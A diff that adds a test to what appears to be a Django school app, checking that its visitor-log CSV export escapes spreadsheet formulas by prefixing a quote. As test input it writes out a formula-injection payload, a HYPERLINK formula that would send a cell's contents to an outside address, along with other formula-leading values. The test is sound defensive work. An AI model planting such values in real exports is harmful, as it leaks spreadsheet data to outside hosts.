@@ -342,6 +342,27 @@ def test_it_exports_the_visitor_log_as_csv_safe_for_spreadsheets(
     assert len(rows) == 3
 
 
+def test_it_keeps_a_formula_in_every_column_of_the_visitor_log_as_text(
+    personas, client_for, kiosk, publish
+):
+    # The agreement's title and the name typed to sign are written by people too.
+    publish([Audience.VISITORS], title='=HYPERLINK("http://x?"&B2)', number="@1")
+    link, _token = kiosk
+    add_visitors(link, 1, name="-2+3", organisation="+Acme", visiting="@Ola")
+    r = client_for(personas.office).get(
+        reverse("policies:visitor_log_csv", args=[personas.school.code])
+    )
+    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
+    assert rows[1][1:] == [
+        "'-2+3",
+        "'+Acme",
+        "'@Ola",
+        '\'=HYPERLINK("http://x?"&B2)',
+        "'@1",
+        "'-2+3",
+    ]
+
+
 def test_it_audits_every_export_of_the_visitor_log(personas, client_for):
     from esafety.audit.models import AuditEvent
 
